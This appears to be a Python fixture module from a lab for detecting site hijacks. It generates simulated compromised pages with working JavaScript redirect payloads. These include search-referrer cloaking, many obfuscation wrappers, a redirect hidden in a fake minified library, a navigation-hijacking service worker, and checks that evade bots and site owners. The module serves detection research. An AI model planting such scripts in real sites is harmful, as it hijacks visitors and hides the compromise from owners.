"""Hijacked sites of the script street: redirects that only a script makes.

Inert, like all gates of the lab: what they lead to are reserved names, and the wrappings of
`packed` hide a line that could be read in the open.
"""

from collections.abc import Callable

from unhijack.lab import packed
from unhijack.lab.lots import token
from unhijack.lab.plots import Answer, Plot, Reach, Tier, Trait, shown
from unhijack.lab.wire import HTML, TownRequest, TownResponse

SEARCH = "/google|bing|yahoo|duckduckgo/.test(document.referrer)"
GO = "location.href='TARGET';"
GATE = f"if({SEARCH}){{{GO}}}"

LIBRARY = (
    "/*! Pocket Query v2.1.4 | MIT */\n"
    "(function(w,d){'use strict';\n"
    "function P(s){return this instanceof P?(this.n=d.querySelectorAll(s),this):new P(s);}\n"
    "P.prototype={each:function(f){for(var i=0;i<this.n.length;i++){f(this.n[i],i);}return this;},\n"
    "on:function(t,f){return this.each(function(e){e.addEventListener(t,f);});},\n"
    "addClass:function(c){return this.each(function(e){e.className+=' '+c;});},\n"
    "hide:function(){return this.each(function(e){e.style.display='none';});}};\n"
    "P.extend=function(a,b){for(var k in b){if(Object.prototype.hasOwnProperty.call(b,k))"
    "{a[k]=b[k];}}return a;};\n"
    "P.ready=function(f){if(d.readyState!=='loading'){f();}else"
    "{d.addEventListener('DOMContentLoaded',f);}};\n"
    "w.PQ=P;if(!w.$){w.$=P;}})(window,document);\n"
)
"""A library as many sites have one."""


def target_of(plot: Plot, request: TownRequest) -> str:
    """Where the prey is sent."""
    return request.link(plot.service, f"/in?id={token(10, plot.host, 'prey')}")


def file(script: str) -> TownResponse:
    """A script as a server sends one."""
    kind = "text/javascript; charset=utf-8"
    return TownResponse(200, (("Content-Type", kind),), script.encode())


def tag(script: str) -> str:
    """A script in a page."""
    return f"<script>{script}</script>\n"


def _written(
    template: str, pack: packed.Packer = str, *, search: bool = False, foot: bool = False
) -> Answer:
    """A script in the page; with `search` the server shows it to search visitors alone."""

    def answer(plot: Plot, request: TownRequest) -> TownResponse:
        if search and (request.is_bot or not request.from_search):
            return shown(plot, request)
        script = tag(pack(template.replace("TARGET", target_of(plot, request))))
        return shown(plot, request, body=script) if foot else shown(plot, request, script)

    return answer


def _markup(template: str, *, search: bool = False) -> Answer:
    """Something else than a script element, at the end of the page."""

    def answer(plot: Plot, request: TownRequest) -> TownResponse:
        if search and (request.is_bot or not request.from_search):
            return shown(plot, request)
        return shown(plot, request, body=template.replace("TARGET", target_of(plot, request)))

    return answer


def _with_files(head: str, files: dict[str, str]) -> Answer:
    """A page with scripts of its own site, by path."""

    def answer(plot: Plot, request: TownRequest) -> TownResponse:
        target = target_of(plot, request)
        if request.path in files:
            return file(files[request.path].replace("TARGET", target))
        return shown(plot, request, head.replace("TARGET", target))

    return answer


def _abroad(head: str, script: Callable[[TownRequest], str]) -> Answer:
    """A page that loads a script from the other party, which answers as it likes."""

    def answer(plot: Plot, request: TownRequest) -> TownResponse:
        if request.path.endswith(".js"):
            return file(script(request).replace("TARGET", target_of(plot, request)))
        if not plot.is_home(request):
            return TownResponse(200, (("Content-Type", HTML),), b"<p>A page of somebody else.</p>")
        return shown(plot, request, head.replace("SERVICE", f"cdn.{plot.service}"))

    return answer


def _rotated() -> str:
    """A table of words, turned as often as its second number says, before it is read."""
    words = ("referrer", "location", "href", "test", "TARGET", "google|bing")
    turned = (*words[-3:], *words[:-3])
    table = ",".join(f"'{word}'" for word in turned)
    return (
        f"var _0x3f=[{table}];(function(a,n){{while(--n){{a.push(a.shift());}}}})(_0x3f,0x4);"
        "var _0x1b=function(n){return _0x3f[n-0x0];};"
        "if(new RegExp(_0x1b('0x5'))[_0x1b('0x3')](document[_0x1b('0x0')]))"
        "{window[_0x1b('0x1')][_0x1b('0x2')]=_0x1b('0x4');}"
    )


def _hexed(plot: Plot, request: TownRequest) -> TownResponse:
    names = {name: packed.hexed(name) for name in ("referrer", "indexOf", "google", "location")}
    script = (
        f"if(document[{names['referrer']}][{names['indexOf']}]({names['google']})>0)"
        f"{{window[{names['location']}]={packed.hexed(target_of(plot, request))};}}"
    )
    return shown(plot, request, tag(script))


def _asked_for(template: str) -> Answer:
    """The script asks its own server where to go, and is told if the visitor is wanted."""

    def answer(plot: Plot, request: TownRequest) -> TownResponse:
        if request.path == "/wp-json/v1/opt":
            kind = ("Content-Type", "application/json")
            body = f'{{"u":"{target_of(plot, request)}"}}' if "google" in request.target else "{}"
            return TownResponse(200, (kind,), body.encode())
        return shown(plot, request, tag(template))

    return answer


def _gate(
    answer: Answer, reach: Reach = Reach.CHECK, *, start: str = "/", abroad: bool = False
) -> Trait:
    return Trait(answer, start, reach, abroad, Tier.SCRIPT)


_PHONE_AGENT = "if(/Android|iPhone/i.test(navigator.userAgent)){location.replace('TARGET');}"
_LOADER = "var s=document.createElement('script');s.src='{}';document.head.appendChild(s);"
_WORKER = (
    "self.addEventListener('install',function(){self.skipWaiting();});\n"
    "self.addEventListener('fetch',function(e){if(e.request.mode==='navigate')"
    "{e.respondWith(Response.redirect('TARGET',302));}});\n"
)
_REGISTER = "if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js');}"
_FRAME = (
    f"if({SEARCH}){{var f=document.createElement('iframe');f.src='TARGET';"
    "f.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;border:0;"
    "z-index:2147483647';document.body.appendChild(f);}"
)
_ONCE_COOKIE = (
    "if(document.cookie.indexOf('_seen=')<0){document.cookie='_seen=1;path=/;max-age=86400';"
    "location.href='TARGET';}"
)
_ONCE_STORE = f"if({SEARCH}&&!localStorage.getItem('_s')){{localStorage.setItem('_s','1');{GO}}}"
_BACK = (
    "history.pushState({},'',location.href);history.pushState({},'',location.href);"
    "window.addEventListener('popstate',function(){location.replace('TARGET');});"
)
_POPUNDER = (
    "var o=0;document.addEventListener('click',function(){if(!o){o=1;"
    "var w=window.open('TARGET','_blank');if(w){w.blur();window.focus();}}},true);"
)
_PIECES = (
    f"if({SEARCH}){{document.write('<me'+'ta ht'+'tp-eq'+'uiv=\"re'+'fresh\" con'"
    "+'tent=\"0;u'+'rl=TARGET\">');}"
)
_FORM = (
    f"if({SEARCH}){{var f=document.createElement('form');f.method='GET';f.action='TARGET';"
    "document.body.appendChild(f);f.submit();}"
)
_LINK = (
    f"if({SEARCH}){{var a=document.createElement('a');a.href='TARGET';"
    "document.body.appendChild(a);a.click();}"
)
_OWN_FORM = (
    '<form id="q" method="post" action="TARGET"><input type="hidden" name="k" value="1"></form>'
    "<script>document.getElementById('q').submit();</script>\n"
)
_WATCHED = f"if(!navigator.webdriver&&navigator.plugins.length>0&&{SEARCH}){{{GO}}}"
_NOON = f"var h=new Date().getHours();if(h>=6&&h<21&&{SEARCH}){{{GO}}}"
_NIGHT = f"var h=new Date().getHours();if(h>=1&&h<4&&{SEARCH}){{{GO}}}"
_ZONE = (
    "var z=Intl.DateTimeFormat().resolvedOptions().timeZone;"
    f"if(!/Kolkata|Karachi/.test(z)&&{SEARCH}){{{GO}}}"
)
_ONE_ZONE = (
    f"var z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(z==='Pacific/Chatham'){{{GO}}}"
)
_TONGUE = f"if(/^en/.test(navigator.language||navigator.languages[0])&&{SEARCH}){{{GO}}}"
_NOT_OWNER = f"if(!/wordpress_logged_in|wp-settings/.test(document.cookie)){{{GO}}}"
_LATE = f"if({SEARCH}){{setTimeout(function(){{location.replace('TARGET');}},SECONDS000);}}"
_MOVED = (
    "var d=0;['scroll','mousemove','touchstart'].forEach(function(t){window.addEventListener(t,"
    "function(){if(!d){d=1;location.assign('TARGET');}});});"
)
_VISIBLE = (
    f"if({SEARCH}){{var t=setInterval(function(){{if(document.visibilityState==='visible'"
    f"&&document.readyState==='complete'){{clearInterval(t);{GO}}}}},700);}}"
)
_READY = f"document.addEventListener('DOMContentLoaded',function(){{{GATE}}});"
_LOADED = f"window.onload=function(){{{GATE}}};"
_TOP = f"if({SEARCH}){{window.top.location='TARGET';}}"
_PROMISE = f"(async()=>{{await new Promise(r=>setTimeout(r,1500));{GATE}}})();"
_OBSERVER = (
    "new MutationObserver(function(m,o){o.disconnect();"
    f"{GATE}}}).observe(document.documentElement,{{childList:true,subtree:true}});"
)
_FETCHED = (
    "fetch('/wp-json/v1/opt?r='+encodeURIComponent(document.referrer)).then(function(r)"
    "{return r.json();}).then(function(j){if(j.u){location.href=j.u;}});"
)
_XHR = (
    "var x=new XMLHttpRequest();x.open('GET','/wp-json/v1/opt?r='+encodeURIComponent("
    "document.referrer));x.onload=function(){var j=JSON.parse(x.responseText);"
    "if(j.u){location.href=j.u;}};x.send();"
)
_LINKS_TURNED = "document.addEventListener('click',function(e){e.preventDefault();location.href='TARGET';},true);"


def _if_search(request: TownRequest) -> str:
    return GO if "google" in request.target.partition("r=")[2] else "var ready=1;"


GATES = {
    "inline-referrer": _gate(_written(GATE)),
    "dom-ready": _gate(_written(_READY)),
    "window-onload": _gate(_written(_LOADED)),
    "top-location": _gate(_written(_TOP)),
    "after-5-seconds": _gate(_written(_LATE.replace("SECONDS", "5"))),
    "after-40-seconds": _gate(_written(_LATE.replace("SECONDS", "40"))),
    "promise": _gate(_written(_PROMISE)),
    "interval-visible": _gate(_written(_VISIBLE)),
    "observer": _gate(_written(_OBSERVER)),
    "char-codes": _gate(_written(GATE, packed.char_codes)),
    "base64": _gate(_written(GATE, packed.base_64)),
    "unescape": _gate(_written(GATE, packed.escaped)),
    "hex-escapes": _gate(_hexed),
    "reversed": _gate(_written(GATE, packed.backwards)),
    "split-join": _gate(_written(GATE, packed.in_pieces)),
    "array-rotation": _gate(_written(_rotated())),
    "function-constructor": _gate(_written(GATE, packed.by_function)),
    "xor": _gate(_written(GATE, packed.shifted)),
    "packer": _gate(_written(GATE, packed.words_apart)),
    "packed-twice": _gate(_written(GATE, lambda s: packed.base_64(packed.char_codes(s)))),
    "poisoned-library": _gate(
        _with_files(
            '<script src="/js/pocket-query.min.js"></script>\n',
            {"/js/pocket-query.min.js": LIBRARY + GATE},
        )
    ),
    "poisoned-library-packed": _gate(
        _with_files(
            '<script src="/js/pocket-query.min.js"></script>\n',
            {"/js/pocket-query.min.js": LIBRARY + packed.words_apart(GATE)},
        )
    ),
    "third-party": _gate(
        _abroad(
            tag(_LOADER.format("//SERVICE/w.js?r='+encodeURIComponent(document.referrer)+'")),
            _if_search,
        ),
        abroad=True,
    ),
    "third-party-all": _gate(
        _abroad('<script async src="//SERVICE/w.js"></script>\n', lambda _: GO), abroad=True
    ),
    "loader-chain": _gate(
        _with_files(
            tag(_LOADER.format("/js/a.js")),
            {"/js/a.js": _LOADER.format("/js/b.js"), "/js/b.js": GATE},
        )
    ),
    "phone-agent": _gate(_written(_PHONE_AGENT)),
    "phone-touch": _gate(
        _written(f"if('ontouchstart' in window||navigator.maxTouchPoints>0){{{GO}}}")
    ),
    "phone-width": _gate(_written(f"if(screen.width<600&&window.innerWidth<600){{{GO}}}")),
    "phone-media-query": _gate(
        _written(f"if(window.matchMedia('(max-width: 600px)').matches){{{GO}}}")
    ),
    "once-by-cookie": _gate(_written(_ONCE_COOKIE)),
    "once-by-storage": _gate(_written(_ONCE_STORE)),
    "first-click": _gate(
        _written(f"document.addEventListener('click',function(){{{GO}}},{{once:true}});")
    ),
    "every-link": _gate(_written(_LINKS_TURNED)),
    "first-move": _gate(_written(_MOVED)),
    "history-back": _gate(_written(_BACK)),
    "popunder": _gate(_written(_POPUNDER)),
    "meta-in-pieces": _gate(_written(_PIECES)),
    "frame-by-script": _gate(_written(_FRAME, foot=True)),
    "form-by-script": _gate(_written(_FORM, foot=True)),
    "link-by-script": _gate(_written(_LINK, foot=True)),
    "service-worker": _gate(_with_files(tag(_REGISTER), {"/sw.js": _WORKER})),
    "image-onerror": _gate(
        _markup(f'<img src="/images/x-0.jpg" width="1" height="1" onerror="{GATE}">\n')
    ),
    "broken-image": _gate(_markup(f'<img src="" onerror="{GATE}">\n')),
    "body-onload": _gate(
        _markup(f"<script>document.body.setAttribute('onload',\"{GATE}\");</script>\n")
    ),
    "svg-onload": _gate(_markup(f'<svg width="1" height="1" onload="{GATE}"></svg>\n')),
    "script-url-frame": _gate(
        _markup(
            f'<iframe width="1" height="1" src="javascript:if({SEARCH}){{parent.{GO}}}"></iframe>\n'
        )
    ),
    "module": _gate(
        _with_files(
            '<script type="module">import {go} from "/js/m.js";go();</script>\n',
            {"/js/m.js": f"export function go(){{{GATE}}}\n"},
        )
    ),
    "noon": _gate(_written(_NOON)),
    "night": _gate(_written(_NIGHT), Reach.UNSEEN),
    "webdriver": _gate(_written(_WATCHED)),
    "zone-excluded": _gate(_written(_ZONE)),
    "zone-only": _gate(_written(_ONE_ZONE), Reach.UNSEEN),
    "english-only": _gate(_written(_TONGUE)),
    "not-the-owner": _gate(_written(_NOT_OWNER)),
    "server-decides": _gate(_written(GO, search=True)),
    "server-decides-packed": _gate(_written(GO, packed.base_64, search=True)),
    "own-form": _gate(_markup(_OWN_FORM, search=True)),
    "fetched": _gate(_asked_for(_FETCHED), Reach.UNSEEN),
    "asked-by-xhr": _gate(_asked_for(_XHR), Reach.UNSEEN),
}
